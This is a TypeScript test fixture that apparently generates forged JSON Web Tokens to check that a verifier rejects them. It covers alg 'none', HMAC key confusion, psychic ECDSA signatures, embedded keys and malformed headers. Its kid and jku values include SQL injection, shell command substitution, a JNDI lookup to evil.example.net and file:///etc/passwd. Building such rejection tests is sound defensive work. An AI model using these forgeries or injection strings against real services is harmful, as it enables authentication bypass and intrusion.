import { createHmac, createSign, generateKeyPairSync, KeyObject, type webcrypto } from 'node:crypto';
import type { JWK } from 'jose';
import {
  forge,
  goodClaims,
  goodHeader,
  signGood,
  signParts,
  toPart,
  type BadToken,
  type TokenMint,
  type UnfitName,
} from './bad-token.ts';

/** Signs well, and no issuer has it. */
const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
/** The order of P-256 (FIPS 186-5), as bytes. */
const order = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
const zero = Buffer.alloc(32);
const one = Buffer.from(`${'00'.repeat(31)}01`, 'hex');

/** What is public about the key, as some library might take it for a secret. */
const secrets: readonly (readonly [string, (mint: TokenMint) => string | Buffer])[] = [
  ['the public key as PEM', ({ signer }) => signer.publicPem],
  ['it as PEM with another line end', ({ signer }) => `${signer.publicPem}\n`],
  ['it as DER', ({ signer }) => Buffer.from(signer.publicPem.replaceAll(/-.*-|\n/g, ''), 'base64')],
  ['it as JWK', ({ signer }) => JSON.stringify(signer.publicJwk)],
  ['its coordinate', ({ signer }) => signer.publicJwk.x ?? ''],
  ['an empty secret', () => ''],
  ['its name', () => 'one'],
];

/** Tokens that say what a good one says, and that nobody signed who may, or not in a way that is accepted. */
export const badSignatures: readonly BadToken[] = [
  ...['none', 'None', 'NONE', 'nOnE', ''].flatMap((alg) => [
    add(`alg-none: ${alg}`, (mint) => forge({ ...goodHeader, alg }, goodClaims(mint), 'AA')),
    add(`alg-none: ${alg}, without a signature`, (mint) =>
      forge({ ...goodHeader, alg }, goodClaims(mint), ''),
    ),
  ]),
  add('alg-none: two parts', (mint) => forge({ alg: 'none' }, goodClaims(mint), '').slice(0, -1)),
  ...['HS256', 'HS384', 'HS512'].flatMap((alg) =>
    secrets.map(([what, toSecret]) =>
      add(`hs-confusion: ${alg} with ${what}`, (mint) =>
        signWithSecret(mint, { alg, secret: toSecret(mint) }),
      ),
    ),
  ),
  add('hs-confusion: a symmetric key that is published', (mint) =>
    signWithSecret(mint, { alg: 'HS256', secret: mint.unfit.secret, kid: 'secret' }),
  ),
  // Their signatures are those of the issuer: the name of the algorithm alone is wrong.
  ...[
    'PS256',
    'ES384',
    'ES512',
    'ES256K',
    'EdDSA',
    'Ed25519',
    'RS256',
    'RS1',
    'es256',
    'ES256 ',
    ' ES256',
    'ES256\u0000',
    'SHA256withECDSA',
    7,
    null,
    undefined,
    true,
    ['ES256'],
    { alg: 'ES256' },
  ].map((alg) =>
    add(`algorithm: ${JSON.stringify(alg)}`, (mint) =>
      signParts(mint.signer, { ...goodHeader, alg }, goodClaims(mint)),
    ),
  ),
  add('algorithm: one that makes much work (CVE-2023-52428)', (mint) =>
    forge({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 1e9, p2s: 'AAAA', kid: 'one' }, goodClaims(mint)),
  ),
  add('another key: RSA', (mint) => signParts(rsa, { ...goodHeader, alg: 'RS256' }, goodClaims(mint))),
  add('another key', (mint) => mint.stranger.sign(goodClaims(mint))),
  ...(['weak', 'sealing', 'agreeing', 'large'] as const).map((kid) =>
    add(`unfit key: ${kid}`, (mint) => signUnfit(mint, kid)),
  ),
  ...[
    '../../../../dev/null',
    '/dev/null',
    'file:///proc/sys/kernel/randomize_va_space',
    "one' OR '1'='1",
    "x' UNION SELECT 'AA' -- ",
    '| sleep 9',
    '$(sleep 9)',
    '${jndi:ldap://evil.example.net/x}',
    'https://evil.example.net/keys',
    '__proto__',
    'constructor',
    'toString',
    '0',
    'ONE',
    'one\u0000',
    'one ',
    'one,two',
    '',
    'x'.repeat(5000),
  ].map((kid) =>
    add(`kid-injection: ${kid.slice(0, 40)}`, (mint) => mint.stranger.sign(goodClaims(mint), { kid })),
  ),
  ...[1, null, true, ['one'], { kid: 'one' }].map((kid) =>
    add(`kid-injection: ${JSON.stringify(kid)}`, (mint) =>
      signParts(mint.signer, { ...goodHeader, kid }, goodClaims(mint)),
    ),
  ),
  ...['https://evil.example.net/keys', 'http://127.0.0.1:1/keys', 'file:///etc/passwd'].flatMap((url) =>
    ['jku', 'x5u', 'jwks_uri', 'iss'].map((name) =>
      add(`${name}: ${url}`, (mint) => mint.stranger.sign(goodClaims(mint), { [name]: url })),
    ),
  ),
  add('jku: at the issuer, another path', (mint) =>
    mint.stranger.sign(goodClaims(mint), { jku: `${mint.issuer}/uploads/keys` }),
  ),
  add('embedded-jwk', (mint) => mint.stranger.sign(goodClaims(mint), { jwk: mint.stranger.publicJwk })),
  add('embedded-jwk: without kid (CVE-2018-0114)', (mint) =>
    mint.stranger.sign(goodClaims(mint), { jwk: mint.stranger.publicJwk, kid: undefined }),
  ),
  add('embedded-jwk: the private key', (mint) =>
    mint.stranger.sign(goodClaims(mint), {
      jwk: toPrivateJwk(mint.stranger.privateKey),
    }),
  ),
  add('embedded-jwk: a set', (mint) =>
    mint.stranger.sign(goodClaims(mint), { jwks: { keys: [mint.stranger.publicJwk] } }),
  ),
  add('x5c', (mint) =>
    mint.stranger.sign(goodClaims(mint), { x5c: [mint.stranger.publicPem.replaceAll(/-.*-|\n/g, '')] }),
  ),
  add('x5t', (mint) => mint.stranger.sign(goodClaims(mint), { x5t: 'AAAA', 'x5t#S256': 'AAAA' })),
  ...([['exp'], ['b64'], [], ['alg'], 'exp', {}, null, ['x', 'x']] as const).map((crit) =>
    add(`crit: ${JSON.stringify(crit)}`, (mint) =>
      signParts(mint.signer, { ...goodHeader, crit, exp: 1, b64: true }, goodClaims(mint)),
    ),
  ),
  add('b64: false (RFC 7797)', (mint) =>
    signParts(mint.signer, { ...goodHeader, b64: false, crit: ['b64'] }, goodClaims(mint)),
  ),
  add('b64: false, not critical', (mint) =>
    signParts(mint.signer, { ...goodHeader, b64: false }, goodClaims(mint)),
  ),
  ...[7, null, ['at+jwt'], {}].map((typ) =>
    add(`typ: ${JSON.stringify(typ)}`, (mint) =>
      signParts(mint.signer, { ...goodHeader, typ }, goodClaims(mint)),
    ),
  ),
  ...[
    '{"alg":"none","alg":"ES256","kid":"one"}',
    '{"alg":"ES256","kid":"one","alg":"none"}',
    '{"alg":"ES256","kid":"one","\\u0061lg":"none"}',
    '{"alg":"ES256","kid":"two","kid":"one"}',
    '{"alg":"ES256","kid":"one","__proto__":{"alg":"none"}}',
    '[{"alg":"ES256","kid":"one"}]',
    '"ES256"',
    'null',
    '{}',
    '{"alg":"ES256","kid":"one"',
    '{"alg":"ES256","kid":"one"} x',
    "{'alg':'ES256','kid':'one'}",
  ].map((header) => add(`odd header: ${header}`, (mint) => signParts(mint.signer, header, goodClaims(mint)))),
  add('header: not UTF-8', (mint) =>
    signParts(mint.signer, Buffer.from('{"alg":"ES256","kid":"one","x":"\xff"}', 'latin1'), goodClaims(mint)),
  ),
  // psychic-signatures (CVE-2022-21449): values that some libraries take for right, whatever was signed.
  ...[
    ['zero and zero', zero, zero],
    ['zero and one', zero, one],
    ['one and zero', one, zero],
    ['one and one', one, one],
    ['the order and the order', order, order],
    ['the order and one', order, one],
    ['one and the order', one, order],
    ['all ones', Buffer.alloc(32, 255), Buffer.alloc(32, 255)],
  ].map(([what, r, s]) =>
    add(`psychic-signature: ${String(what)}`, (mint) =>
      forge(goodHeader, goodClaims(mint), Buffer.concat([r as Buffer, s as Buffer]).toString('base64url')),
    ),
  ),
  add('signature: as DER', (mint) => signParts(mint.signer, goodHeader, goodClaims(mint), 'der')),
  add('signature: empty', async (mint) => (await split(mint)).with(2, '').join('.')),
  add('signature: cut', async (mint) => (await signGood(mint)).slice(0, -4)),
  add('signature: longer', async (mint) => `${await signGood(mint)}AAAA`),
  add('signature: halves exchanged', async (mint) => {
    const bytes = Buffer.from((await split(mint))[2] ?? '', 'base64url');
    const other = Buffer.concat([bytes.subarray(32), bytes.subarray(0, 32)]).toString('base64url');
    return (await split(mint)).with(2, other).join('.');
  }),
  add('signature: of another token', async (mint) => {
    const [head, body] = (await mint.signer.sign({ ...goodClaims(mint), sub: 'mallory' })).split('.');
    return `${head}.${body}.${(await split(mint))[2]}`;
  }),
  add('signature: of the same header, written with a blank', async (mint) => {
    const [head = '', ...rest] = await split(mint);
    return [toPart(`${Buffer.from(head, 'base64url').toString()} `), ...rest].join('.');
  }),
  add('signature: of the same claims in another order', async (mint) => {
    const [head, body = '', signature] = await split(mint);
    const claims = Object.entries(JSON.parse(Buffer.from(body, 'base64url').toString()) as object);
    return `${head}.${toPart(Object.fromEntries(claims.toReversed()))}.${signature}`;
  }),
  add('signature: of the payload alone', (mint) => {
    const [, body = ''] = forge(goodHeader, goodClaims(mint)).split('.');
    const key = KeyObject.from(mint.signer.privateKey);
    const made = createSign('sha256').update(body).sign({ key, dsaEncoding: 'ieee-p1363' });
    return forge(goodHeader, goodClaims(mint), made.toString('base64url'));
  }),
];

function add(name: string, build: BadToken['build']): BadToken {
  return { name, build };
}

function signWithSecret(
  mint: TokenMint,
  { alg, secret, kid = 'one' }: { alg: string; secret: string | Buffer; kid?: string },
): string {
  const [head, body] = forge({ alg, kid }, goodClaims(mint)).split('.');
  const digest = `sha${alg.slice(2)}`;
  return `${head}.${body}.${createHmac(digest, secret).update(`${head}.${body}`).digest('base64url')}`;
}

function signUnfit(mint: TokenMint, kid: UnfitName): string {
  const alg = { weak: 'RS256', sealing: 'ES256', agreeing: 'ES256', large: 'ES384' }[kid];
  return signParts(mint.unfit.privateKeys[kid], { alg, kid }, goodClaims(mint));
}

function toPrivateJwk(key: webcrypto.CryptoKey): JWK {
  return KeyObject.from(key).export({ format: 'jwk' });
}

async function split(mint: TokenMint): Promise<string[]> {
  return (await signGood(mint)).split('.');
}
